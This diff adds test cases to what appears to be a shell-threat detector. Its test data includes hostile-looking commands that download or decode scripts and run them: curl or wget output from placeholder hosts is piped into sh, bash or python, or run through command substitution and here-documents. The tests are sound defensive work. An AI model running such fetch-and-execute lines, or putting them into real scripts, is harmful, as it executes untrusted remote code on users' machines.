@@ -1908,3 +1908,29 @@ describe('character arrays', () => {
     expect(threats(fence('powershell', '$rel = (Resolve-Path -LiteralPath $p -Relative).TrimStart([char[]]@(".", "\\"))\n& $tool check $rel'))).toEqual([]);
   });
 });
+
+describe('shell plumbing that feeds fetched or decoded code to a shell', () => {
+  it('sees a file written by one command of a list and run by the next', () => {
+    expect(threats(fence('bash', 'printf %s aGVsbG8= | base64 --decode > /var/tmp/setup.sh && sh /var/tmp/setup.sh'))).toEqual(['threat/obfuscated-exec 8:61 error']);
+    expect(threats(fence('bash', 'wget -qO- https://cdn.pkgmirror.example.net/boot > boot.sh || true; bash boot.sh'))).toEqual(['threat/download-exec 8:69 error']);
+    expect(threats(fence('bash', 'printf %s "$notes" > /tmp/notes.md && cat /tmp/notes.md'))).toEqual([]);
+  });
+  it('reads a program looked up on the PATH as that program', () => {
+    expect(threats(fence('bash', 'SHELL_BIN="$(command -v sh)"\ncurl -fsSL https://bootstrap.toolhub.example.org/go | "$SHELL_BIN"'))).toEqual(['threat/download-exec 9:55 error']);
+    expect(threats(fence('bash', 'py=$(which python3)\nwget -qO- https://bootstrap.toolhub.example.org/go.py | $py'))).toEqual(['threat/download-exec 9:57 error']);
+    expect(threats(fence('bash', 'py=$(which python3)\n$py -m venv .venv'))).toEqual([]);
+  });
+  it('runs what a download printed when a command substitution is the command itself', () => {
+    expect(threats(fence('bash', '$(curl -fsSL https://addons.devkit.example.ch/setup.sh)'))).toEqual(['threat/download-exec 8:1 error']);
+    expect(threats(fence('bash', 'cd /srv && `wget -qO- https://addons.devkit.example.ch/x`'))).toEqual(['threat/download-exec 8:12 error']);
+    expect(threats(fence('bash', 'version=$(curl -fsSL https://api.github.com/repos/o/r/releases/latest | jq -r .tag_name)\necho "$(date) $version"'))).toEqual([]);
+  });
+  it('reads an unquoted here-document as the shell expands it', () => {
+    const fed = 'sh <<SETUP\nname=\\$(hostname)\n$(curl -fsSL https://addons.devkit.example.ch/v2/post.sh)\nconfigure "\\$name"\nSETUP';
+    expect(threats(fence('bash', fed))).toEqual(['threat/download-exec 9:1 error']);
+    const written = 'cat > ~/.local/bin/sync-all <<EOF\n#!/bin/sh\nwget -qO- "https://hooks.syncer.example.net/\\$(whoami)" | sh\nEOF';
+    expect(threats(fence('bash', written))).toEqual(['threat/download-exec 9:1 error']);
+    const quoted = "cat > ~/.local/bin/show <<'EOF'\n#!/bin/sh\necho \"\\$(whoami)\"\nEOF";
+    expect(threats(fence('bash', quoted))).toEqual([]);
+  });
+});
